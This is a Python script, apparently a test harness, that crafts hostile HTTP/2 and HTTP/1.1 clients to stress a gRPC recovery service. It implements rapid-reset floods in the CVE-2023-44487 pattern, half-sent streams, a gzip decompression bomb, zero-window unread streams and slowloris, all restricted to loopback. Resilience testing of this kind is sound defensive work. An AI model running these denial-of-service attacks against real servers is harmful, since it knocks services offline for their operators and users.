"""Hostile HTTP/2 peers, written frame by frame (hyperframe + hpack) so they
can do what a gRPC library refuses to: reset streams as fast as they are
opened, leave messages half sent, never read, never acknowledge SETTINGS,
send a compressed bomb. Each attack runs in its own process (so the
executor being measured is not slowed by this Python work), against
127.0.0.1 only, for a bounded time, and prints one JSON object of what it
did:

    python attacks.py ATTACK HOST:PORT SECONDS [--token T] [--connections N]

ATTACK: rapid_reset | half_sent | gzip_bomb | unread_streams | slowloris
"""
import argparse
import json
import os
import select
import socket
import struct
import sys
import threading
import time
import zlib
from pathlib import Path

import hpack
from hyperframe.frame import (DataFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
DECIDE = "/recovery.v1.RecoveryService/Decide"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
BREAKER_STATE = "/recovery.v1.RecoveryService/GetBreakerState"

# A Decide request: tool_id "attack", an error message.
DECIDE_MSG = b"\x0a\x06attack" + b"\x12\x09\x0a\x07timeout"


def loopback_only(address: str) -> tuple[str, int]:
    host, port = address.rsplit(":", 1)
    if host not in ("127.0.0.1", "localhost") and not host.startswith("127."):
        raise SystemExit(f"attacks go to loopback only, not {host}")
    return "127.0.0.1", int(port)


def grpc_frame(payload: bytes, compressed: bool = False, declared: int | None = None) -> bytes:
    n = len(payload) if declared is None else declared
    return struct.pack(">BI", 1 if compressed else 0, n) + payload


class RawConn:
    """One HTTP/2 connection driven by hand. ack_settings=False never
    acknowledges the server's SETTINGS, so limits it announces (max
    concurrent streams) are never in force by the letter of RFC 9113."""

    def __init__(self, address: str, ack_settings: bool = True, window: int | None = None):
        self.sock = socket.create_connection(loopback_only(address), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = hpack.Encoder()
        self.ack_settings = ack_settings
        self.next_id = 1
        self.rx = bytearray()
        self.goaway = False
        self.closed = False
        self.rst_received = 0
        self.header_blocks: list[bytes] = []
        self.message = ""
        # the server's flow-control windows, for senders that keep to them
        self.initial_window = 65535
        self.conn_window = 65535
        self.stream_window: dict[int, int] = {}
        self.dec = hpack.Decoder()
        settings = SettingsFrame(0)
        if window is not None:
            settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = window
        self.sock.sendall(PREFACE + settings.serialize())

    def headers(self, method: str, token: str | None = None, extra=()) -> list:
        h = [(":method", "POST"), (":scheme", "http"), (":path", method),
             (":authority", "localhost"), ("content-type", "application/grpc"),
             ("te", "trailers")]
        if token:
            h.append(("authorization", f"Bearer {token}"))
        h.extend(extra)
        return h

    def open_stream(self, method: str, body: bytes | None, end: bool, token=None, extra=(),
                    rst: bool = False) -> bytes:
        """The bytes of one stream's HEADERS [+ DATA] [+ RST_STREAM]."""
        sid = self.next_id
        self.next_id += 2
        hf = HeadersFrame(sid)
        hf.data = self.enc.encode(self.headers(method, token, extra))
        hf.flags.add("END_HEADERS")
        if body is None and end:
            hf.flags.add("END_STREAM")
        out = [hf.serialize()]
        if body is not None:
            # split to the default 16 KiB frame size
            for off in range(0, max(len(body), 1), 16384):
                df = DataFrame(sid)
                df.data = body[off:off + 16384]
                if end and off + 16384 >= len(body):
                    df.flags.add("END_STREAM")
                out.append(df.serialize())
        if rst:
            out.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
        return b"".join(out)

    def send_body(self, sid: int, body: bytes, deadline: float) -> bool:
        """DATA frames of `body` on stream `sid`, ending it, sent only as the
        server's flow-control windows allow (as a well-behaved peer would)."""
        off = 0
        while off < len(body) and time.monotonic() < deadline and not self.closed:
            window = min(self.conn_window, self.stream_window.get(sid, self.initial_window))
            if window <= 0:
                self.pump(0.05)
                continue
            n = min(window, 16384, len(body) - off)
            df = DataFrame(sid)
            df.data = body[off:off + n]
            if off + n == len(body):
                df.flags.add("END_STREAM")
            if not self.send(df.serialize(), timeout=1.0):
                return False
            self.conn_window -= n
            self.stream_window[sid] = self.stream_window.get(sid, self.initial_window) - n
            off += n
            self.pump()
        return off == len(body)

    def send(self, data: bytes, timeout: float | None = None) -> bool:
        """Sends, answering the server meanwhile; False if the connection is gone."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except (OSError, socket.timeout):
            self.closed = True
            return False

    def pump(self, wait: float = 0.0) -> None:
        """Reads what has arrived (without blocking past `wait`), answering
        SETTINGS (unless told not to) and PING the way a peer must, and
        noting GOAWAY, RST_STREAM and the header blocks."""
        while not self.closed:
            r, _, _ = select.select([self.sock], [], [], wait)
            if not r:
                return
            wait = 0.0
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.rx += chunk
            self._parse()

    def _parse(self) -> None:
        while len(self.rx) >= 9:
            length = int.from_bytes(self.rx[0:3], "big")
            if len(self.rx) < 9 + length:
                return
            kind, flags = self.rx[3], self.rx[4]
            self.rx_last_header = bytes(self.rx[:9])
            body = bytes(self.rx[9:9 + length])
            del self.rx[:9 + length]
            try:
                if kind == 0x1:
                    pad = body[0] if flags & 0x8 else 0
                    start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                    self.header_blocks.append(body[start:len(body) - pad])
                elif kind == 0x4 and not flags & 0x1:
                    for off in range(0, len(body) - 5, 6):
                        ident, value = struct.unpack(">HI", body[off:off + 6])
                        if ident == 0x4:
                            self.initial_window = value
                    if self.ack_settings:
                        self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                elif kind == 0x8:
                    sid = int.from_bytes(self.rx_last_header[5:9], "big") & 0x7FFFFFFF
                    inc = int.from_bytes(body[:4], "big") & 0x7FFFFFFF
                    if sid == 0:
                        self.conn_window += inc
                    else:
                        self.stream_window[sid] = self.stream_window.get(
                            sid, self.initial_window) + inc
                elif kind == 0x6 and not flags & 0x1:
                    self.sock.sendall(PingFrame(0, flags=["ACK"], opaque_data=body[:8]).serialize())
                elif kind == 0x7:
                    self.goaway = True
                elif kind == 0x3:
                    self.rst_received += 1
            except OSError:
                self.closed = True
                return

    def status(self) -> str | None:
        """The first grpc-status among the header blocks received so far
        (its grpc-message is kept in self.message)."""
        found = None
        for block in self.header_blocks:
            for name, value in self.dec.decode(block):
                name = name.decode() if isinstance(name, bytes) else name
                value = value.decode() if isinstance(value, bytes) else value
                if name == "grpc-status" and found is None:
                    found = value
                elif name == "grpc-message":
                    self.message = value
        self.header_blocks.clear()
        return found

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


# ------------------------------------------------------------------ attacks

def rapid_reset(address: str, seconds: float, connections: int = 1, **_) -> dict:
    """HEADERS + DATA + RST_STREAM(CANCEL), 100 streams per write, in a loop
    (the CVE-2023-44487 pattern), reading what comes back between writes."""
    stop = time.monotonic() + seconds
    streams = 0
    goaways = 0
    reconnects = 0
    body = grpc_frame(DECIDE_MSG)
    conn = None
    while time.monotonic() < stop:
        if conn is None or conn.closed or conn.goaway or conn.next_id > 2**31 - 1000:
            if conn is not None:
                goaways += conn.goaway
                conn.close()
                reconnects += 1
            try:
                conn = RawConn(address)
            except OSError:
                time.sleep(0.01)
                conn = None
                continue
        batch = b"".join(conn.open_stream(DECIDE, body, end=True, rst=True) for _ in range(100))
        if conn.send(batch, timeout=1.0):
            streams += 100
        conn.pump()
    if conn is not None:
        goaways += conn.goaway
        conn.close()
    return {"streams": streams, "goaways": goaways, "reconnects": reconnects}


def half_sent(address: str, seconds: float, connections: int = 2, ack: bool = False, **_) -> dict:
    """Streams whose gRPC message declares 100 bytes and sends 3, never
    finished, as many as the server takes; SETTINGS never acknowledged."""
    stop = time.monotonic() + seconds
    body = grpc_frame(b"\x0a\x01a", declared=100)
    conns = [RawConn(address, ack_settings=ack) for _ in range(connections)]
    sent = 0
    while time.monotonic() < stop and sent < 100000:
        alive = [c for c in conns if not c.closed]
        if not alive:
            break
        for c in alive:
            batch = b"".join(c.open_stream(DECIDE, body, end=False) for _ in range(100))
            if c.send(batch, timeout=0.5):
                sent += 100
            c.pump()
    # hold the streams open until the end of the attack time
    while time.monotonic() < stop:
        for c in conns:
            c.pump(0.05)
    refused = sum(c.rst_received for c in conns)
    closed = sum(c.closed or c.goaway for c in conns)
    for c in conns:
        c.close()
    return {"streams": sent, "refused": refused, "connections_closed": closed}


def _bomb(mib: int) -> bytes:
    """gzip of `mib` MiB of zeros, made once and kept beside this file's
    cache directory (it takes a few seconds)."""
    cache = Path(os.environ.get("RD_HOSTILE_CACHE", "/tmp")) / f"rd-gzip-bomb-{mib}.gz"
    if cache.is_file():
        return cache.read_bytes()
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    zero = bytes(1 << 20)
    parts = [co.compress(zero) for _ in range(mib)]
    parts.append(co.flush())
    data = b"".join(parts)
    tmp = cache.with_suffix(f".{os.getpid()}")
    tmp.write_bytes(data)
    tmp.replace(cache)
    return data


def gzip_bomb(address: str, seconds: float, connections: int = 1, mib: int = 1000, **_) -> dict:
    """`connections` Health/Check calls at once, each 1 MB of gzip
    inflating to `mib` MiB; reports each answer's status and time."""
    bomb = _bomb(mib)
    results = []
    lock = threading.Lock()

    def one():
        conn = RawConn(address)
        conn.pump(0.2)  # the server's SETTINGS
        t0 = time.monotonic()
        sid = conn.next_id
        conn.send(conn.open_stream(HEALTH_CHECK, None, end=False,
                                   extra=[("grpc-encoding", "gzip"),
                                          ("grpc-accept-encoding", "identity,gzip")]))
        conn.send_body(sid, grpc_frame(bomb, compressed=True), t0 + seconds)
        status = None
        deadline = t0 + seconds
        while status is None and time.monotonic() < deadline and not conn.closed:
            conn.pump(0.05)
            status = conn.status()
        with lock:
            results.append({"status": status, "message": conn.message[:200],
                            "seconds": round(time.monotonic() - t0, 3),
                             "compressed_bytes": len(bomb)})
        conn.close()

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return {"calls": results}


def unread_streams(address: str, seconds: float, connections: int = 1, streams: int = 2000,
                   token: str | None = None, **_) -> dict:
    """`streams` GetBreakerState calls for every tracked tool on one
    connection whose receive window is 0: the answers can never be sent."""
    conn = RawConn(address, ack_settings=False, window=0)
    body = grpc_frame(b"")
    sent = 0
    stop = time.monotonic() + seconds
    while sent < streams and time.monotonic() < stop and not conn.closed:
        batch = b"".join(conn.open_stream(BREAKER_STATE, body, end=True, token=token)
                         for _ in range(min(100, streams - sent)))
        if conn.send(batch, timeout=1.0):
            sent += min(100, streams - sent)
        conn.pump()
    while time.monotonic() < stop and not conn.closed:
        conn.pump(0.05)
    out = {"streams": sent, "refused": conn.rst_received, "closed": conn.closed or conn.goaway}
    conn.close()
    return out


def slowloris(address: str, seconds: float, connections: int = 300,
              source: str = "127.0.0.2", **_) -> dict:
    """`connections` HTTP/1.1 requests to /metrics from `source` (another
    loopback address: another client than the scraper's 127.0.0.1), each
    sending one more header line every second and never finishing."""
    conns = []
    refused = 0
    for _ in range(connections):
        try:
            s = socket.create_connection(loopback_only(address), timeout=2,
                                         source_address=(source, 0))
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            conns.append(s)
        except OSError:
            refused += 1
    opened = len(conns)
    stop = time.monotonic() + seconds
    n = 0
    while time.monotonic() < stop and conns:
        time.sleep(1.0)
        alive = []
        for s in conns:
            try:
                s.sendall(b"X-a%d: b\r\n" % n)
                alive.append(s)
            except OSError:
                s.close()
        conns = alive
        n += 1
    still = len(conns)
    for s in conns:
        s.close()
    return {"opened": opened, "refused": refused, "still_open_at_end": still}


ATTACKS = {"rapid_reset": rapid_reset, "half_sent": half_sent, "gzip_bomb": gzip_bomb,
           "unread_streams": unread_streams, "slowloris": slowloris}


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("address")
    p.add_argument("seconds", type=float)
    p.add_argument("--token")
    p.add_argument("--connections", type=int)
    p.add_argument("--mib", type=int)
    p.add_argument("--ack", action="store_true", help="half_sent: acknowledge SETTINGS")
    args = p.parse_args()
    kw = {"token": args.token}
    if args.connections:
        kw["connections"] = args.connections
    if args.mib:
        kw["mib"] = args.mib
    if args.ack:
        kw["ack"] = True
    print(json.dumps(ATTACKS[args.attack](args.address, args.seconds, **kw)), flush=True)


if __name__ == "__main__":
    main()
